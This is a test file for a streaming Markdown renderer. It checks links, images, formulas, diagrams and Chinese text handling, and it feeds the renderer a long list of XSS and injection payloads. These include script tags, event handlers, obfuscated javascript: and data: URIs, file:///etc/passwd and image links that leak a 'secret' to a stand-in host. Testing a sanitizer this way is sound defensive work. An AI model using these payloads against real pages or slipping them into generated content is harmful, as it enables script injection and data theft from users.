import { renderToStaticMarkup } from "react-dom/server";
import { afterEach, describe, expect, test, vi } from "vitest";
import { keepSize } from "./diagram-sizes.ts";
import { EnglishMarkdown } from "./testing/english-markdown.tsx";

afterEach(() => vi.restoreAllMocks());

/** The markup of an answer, without the direction that every block of text has. */
function draw(text: string, streaming = false): string {
  return renderToStaticMarkup(<EnglishMarkdown text={text} streaming={streaming} />).replaceAll(
    ' dir="auto"',
    "",
  );
}

const hostile: string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "text <b onmouseover=alert(1)>b</b>",
  "</div></main><script>alert(1)</script>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<style>*{background:url(//x.example)}</style>",
  "<base href=//x.example>",
  "<meta http-equiv=refresh content=0;url=//x.example>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java\tscript:alert(1))",
  "[a](<java\nscript:alert(1)>)",
  "[a](&#106;avascript:alert(1))",
  "[a](&#x6A&#x61vascript&colon;alert(1))",
  "[a](\\javascript:alert(1))",
  "[a](\u0001javascript:alert(1))",
  "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
  "[a](vbscript:msgbox(1))",
  "[a](file:///etc/passwd)",
  "[a](blob:https://x.example/1)",
  "[a](about:blank)",
  "[a](view-source:https://x.example)",
  "[a](mailto:a@x.example)",
  "[a]: javascript:alert(1)\n\n[a]",
  "[a][b]\n\n[b]: <javascript:alert(1)> 't'",
  "<javascript:alert(1)>",
  "<data:text/html,<script>alert(1)</script>>",
  "![a](javascript:alert(1))",
  "![a](data:image/svg+xml;base64,PHN2Zz4=)",
  "![a](data:image/png;base64,iVBORw0KGgo=)",
  "![leak](https://x.example/?q=secret)",
  "![leak][x]\n\n[x]: https://x.example/?q=secret",
  "![a](//x.example/p.png)",
  "![<img src=x onerror=alert(1)>](x)",
  '[a](https://x.example "onmouseover=alert(1)")',
  "[a](https://x.example/\"onmouseover='alert(1)')",
  "`<script>alert(1)</script>`",
  '```"><script>alert(1)</script>\ncode</code></pre><script>alert(1)</script>\n```',
  "```<img/src=x/onerror=alert(1)>\n```",
  "~~~ javascript onload=alert(1)\n<script>alert(1)</script>\n~~~",
  "    <script>alert(1)</script>",
  "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
  "# <script>alert(1)</script>",
  "> <script>alert(1)</script>",
  "- [ ] <script>alert(1)</script>",
  "1. <svg onload=alert(1)>",
  "$<script>alert(1)</script>$",
  "$$\n\\href{javascript:alert(1)}{x}\n$$",
  "$\\includegraphics{javascript:alert(1)}$",
  "$\\htmlData{onclick=alert(1)}{x}$",
  "```mermaid\ngraph TD\nA[<img src=x onerror=alert(1)>]\n```",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)",
  "\\<script>alert(1)\\</script>",
  "**<script>**alert(1)</script>",
  "[<img src=x onerror=alert(1)>](https://x.example)",
  "[[a](javascript:alert(1))](javascript:alert(2))",
  "{{constructor.constructor('alert(1)')()}}",
  "__proto__ [__proto__] [constructor]\n\n[__proto__]: https://x.example",
  "\u202ejavascript:alert(1)",
  "<a href=javascript:alert(1)>x</a>",
  "<x onclick=alert(1) style=position:fixed;inset:0>",
];

const allowedTags =
  /^(?:div|p|a|ul|ol|li|h[1-6]|blockquote|hr|br|strong|em|s|code|pre|span|button|table|thead|tbody|tr|th|td|input|bdi|sub|sup|kbd)$/;
const allowedAttributes =
  /^(?:class|lang|href|target|rel|title|start|type|disabled|checked|aria-label|aria-live|aria-pressed|role|tabindex|dir|data-[a-z-]+)$/i;

/** Reads React's own output, in which text is escaped, so every `<` begins a tag. */
function expectHarmless(html: string): void {
  for (const [, name = "", rest = ""] of html.matchAll(/<\/?([^\s>/]+)([^>]*)>/g)) {
    expect(name).toMatch(allowedTags);
    for (const [, attribute = "", value = ""] of rest.matchAll(/([^\s=/"]+)(?:="([^"]*)")?/g)) {
      expect(attribute).toMatch(allowedAttributes);
      if (attribute === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:[\w.@-]+$|#(?:note|mark)-)/);
    }
  }
}

describe("StreamingMarkdown", () => {
  test.each(hostile)("draws nothing that runs, loads or leaves: %j [REND-012]", (text) => {
    expectHarmless(draw(text));
    for (let cut = 1; cut <= text.length; cut++) expectHarmless(draw(text.slice(0, cut), true));
  });

  test("links open elsewhere and tell their host; https is put before what has no scheme [REND-012]", () => {
    expect(draw("[a](x.example/b) http://y.example/ <https://z.example/>")).toBe(
      draw("[a](https://x.example/b) <http://y.example/> https://z.example/"),
    );
    expect(draw("[a](x.example)")).toContain(
      '<a href="https://x.example/" target="_blank" rel="noopener noreferrer nofollow" title="x.example">a</a>',
    );
    expect(draw("[a](mailto:a@x.example) [b](/c) [d](#e)")).toContain("<p>a b d</p>");
  });

  test("a picture is a link with its words and host, never fetched", () => {
    const html = draw("![a cat](https://x.example/cat.png) ![b](data:image/png;base64,AA==)");
    expect(html).not.toContain("<img");
    expect(html).toMatch(
      /<a href="https:\/\/x\.example\/cat\.png"[^>]*><span[^>]*><bdi>a cat<\/bdi> \(<bdi>x\.example<\/bdi>\)<\/span><\/a>/,
    );
  });

  test("a diagram stays code until its fence is closed", () => {
    const fence = "```mermaid\ngraph TD\nA --> B\n";
    // Where it was drawn before, its place is there at once.
    for (const source of ["graph TD\nA --> B\n", "graph TD\nA --> B"])
      keepSize(source, { width: 10, height: 10 });
    for (let cut = 1; cut <= fence.length; cut++)
      expect(draw(fence.slice(0, cut), true)).not.toContain("<svg");
    expect(draw(`${fence}\`\`\`\n`, true)).toContain("<svg");
  });

  test("blocks become their elements [REND-001] [REND-002]", () => {
    const html = draw(
      "# T\n\na **b** *c* ~~d~~ `e`\n\n3. x\n4. y\n   - z\n\n- [x] done\n- [ ] open\n\n|h|\n|-:|\n|c|\n\n> q\n\n---\n\n```js\nlet a;\n```\n",
    );
    for (const part of [
      '<h2 data-level="1">T</h2>',
      "<p>a <strong>b</strong> <em>c</em> <s>d</s> <code>e</code></p>",
      'start="3"',
      'aria-label="Done"',
      'aria-label="To do"',
      "<thead><tr><th",
      "<tbody><tr><td",
      "<blockquote><p>q</p></blockquote>",
      "<hr/>",
      ">js</span>",
      "let a;\n",
    ])
      expect(html).toContain(part);
  });

  test("formulas stand in their own places, money does not [REND-003]", () => {
    const html = draw("$x^2$ costs $5 and $10, \\(y\\)\n\n$$\nz\n$$");
    expect(html.match(/data-tex="[^"]*"/g)).toEqual(['data-tex="x^2"', 'data-tex="y"', 'data-tex="z"']);
    expect(html).toContain("costs $5 and $10, ");
  });

  test("an amount before a formula does not swallow what is between", () => {
    const html = draw("Costs $5 and $10. Then $x$ and $y$10.");
    expect(html).toContain("Costs $5 and $10. Then <span");
    expect(html).toContain("$y$10.");
  });

  test("emphasis closes beside Chinese letters and punctuation", () => {
    expect(draw("前**重点。**后")).toContain("前<strong>重点。</strong>后");
    expect(draw("前**“重点”**后")).toContain("前<strong>“重点”</strong>后");
    expect(draw("**重点：**后")).toContain("<strong>重点：</strong>后");
    expect(draw("a ** b ** c")).toContain("a ** b ** c");
  });

  test.each([
    ["，然后", "，然后"],
    ["。", "。"],
    ["然后", "然后"],
    ["）再看", "）再看"],
    ["”与", "”与"],
    ["……", "……"],
    ["さらに", "さらに"],
    ["그리고", "그리고"],
    ["𠮷", "𠮷"],
    [".。", ".。"],
  ])("a bare link ends before %j", (after, outside) => {
    const html = draw(`见 https://example.com/a?b=c#d${after}`);
    expect(html).toContain(">https://example.com/a?b=c#d</a>" + outside);
    expect(html).toContain('href="https://example.com/a?b=c#d"');
  });

  test("a bare link ends before a footnote, also while that comes", () => {
    const text = "See https://example.com/a?b=c.[^1]\n\n[^1]: Note.";
    const link = ">https://example.com/a?b=c</a>.";
    expect(draw(text)).toContain(`${link}<sup`);
    for (let end = text.indexOf(".["); end <= text.length; end++)
      expect(draw(text.slice(0, end + 1), true)).toMatch(/>https:\/\/example\.com\/a\?b=c<\/a>/u);
  });

  test("a bare link with nothing asian at hand, and one in angle brackets, are whole", () => {
    expect(draw("https://example.com/a_(b)/c?d=%E4%B8%AD then")).toContain(
      'href="https://example.com/a_(b)/c?d=%E4%B8%AD"',
    );
    expect(draw("<https://example.com/中文>")).toContain('href="https://example.com/%E4%B8%AD%E6%96%87"');
    expect(draw("https://例子")).toContain('<p lang="zh">https://例子</p>');
  });

  test("Chinese blocks say so", () => {
    expect(draw("# 标题\n\n这是中文 with a word\n\nEnglish 字")).toBe(
      draw("# 标题\n\n这是中文 with a word\n\nEnglish 字", true),
    );
    expect(draw("这是中文。")).toContain('<p lang="zh">');
    expect(draw("English.")).toContain("<p>English.</p>");
  });

  test("once complete, drawing whole and drawing in parts are one", () => {
    const text = "a [x]\n\n- b\n- c\n\n  d\n\n[x]: x.example\n";
    expect(draw(text)).toContain('href="https://x.example/"');
  });

  test("a paragraph of more than 4,000 characters is drawn in parts without a gap, each with its lines", () => {
    // A dear step ends what is drawn at once: here none is.
    vi.spyOn(performance, "now").mockReturnValue(0);
    const html = draw("words and more of them\n".repeat(400));
    const parts = html.match(/<p\b.*?<\/p>/g) ?? [];
    expect(parts.map((part) => /^<p class="[^"]*goesOn/.test(part))).toEqual([false, true, true]);
    expect(html.match(/words and more of them/g)?.length).toBe(400);
    expect(html.match(/<br\/>/g)?.length).toBe(397);
  });
});
